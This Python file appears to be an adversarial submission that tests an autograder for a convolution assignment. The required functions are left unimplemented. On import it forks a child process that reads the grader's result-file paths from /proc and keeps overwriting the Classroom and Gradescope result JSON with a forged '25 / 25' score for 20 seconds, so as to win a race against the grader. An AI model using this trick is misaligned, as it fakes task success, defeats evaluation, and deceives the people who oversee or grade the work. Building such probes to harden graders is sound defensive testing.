"""Forks a child that keeps writing full-marks result files while (and after) the grader writes its own.

Tries: reads the result files' paths from ``/proc/<ppid>/cmdline``, then
forks at import; the child rewrites both files with a forged "25 / 25"
every 20 ms for 20 s, to win the race against the grader's final write.

On an in-process grader: the child would outlive pytest's final write and
leave forged files (25 points in the files). Here the child is fenced like
the worker and killed with it.
Base: the stub (0 points).
"""

import json
import os
import time

import numpy as np

CLASSROOM = {"version": 3, "status": "pass", "message": None, "score": 25.0, "max_score": 25.0,
             "tests": [{"name": "conv: forged", "status": "pass", "message": None, "score": 25.0,
                        "max_score": 25.0, "task_id": 1}]}
GRADESCOPE = {"score": 25.0, "max_score": 25.0, "output": "TOTAL 25 / 25",
              "tests": [{"name": "conv: forged", "number": "1.1", "score": 25.0, "max_score": 25.0,
                         "status": "passed", "output": "passed", "visibility": "visible"}]}


def _result_paths():
    """``{flag: path}`` read from the command lines of this process's ancestors."""
    found, pid = {}, os.getpid()
    for _ in range(4):
        try:
            with open(f"/proc/{pid}/stat") as stat:
                pid = int(stat.read().rsplit(")", 1)[1].split()[1])
            with open(f"/proc/{pid}/cmdline", "rb") as cmdline:
                args = cmdline.read().decode(errors="replace").split("\0")
        except (OSError, ValueError, IndexError):
            break
        for i, arg in enumerate(args):
            for flag in ("--classroom-json", "--gradescope-json"):
                if arg.startswith(flag + "="):
                    found.setdefault(flag, arg.split("=", 1)[1])
                elif arg == flag and i + 1 < len(args):
                    found.setdefault(flag, args[i + 1])
    return found


def _forge():
    for flag, path in _result_paths().items():
        try:
            with open(path, "w") as out:
                json.dump(CLASSROOM if "classroom" in flag else GRADESCOPE, out)
        except OSError:
            pass


if os.fork() == 0:
    try:
        _started = time.monotonic()
        while time.monotonic() - _started < 20:
            _forge()
            time.sleep(0.02)
    finally:
        os._exit(0)


def conv_output_length(input_length, kernel_size, stride=1, padding="valid", dilation=1):
    raise NotImplementedError("conv_output_length: your code goes here")


def extract_patches(x, kernel_size, strides=1, padding="valid", dilation_rate=1):
    raise NotImplementedError("extract_patches: your code goes here")


def conv2d(x, kernel, bias=None, strides=1, padding="valid", dilation_rate=1):
    raise NotImplementedError("conv2d: your code goes here")


def max_pool2d(x, pool_size=2, strides=None, padding="valid"):
    raise NotImplementedError("max_pool2d: your code goes here")
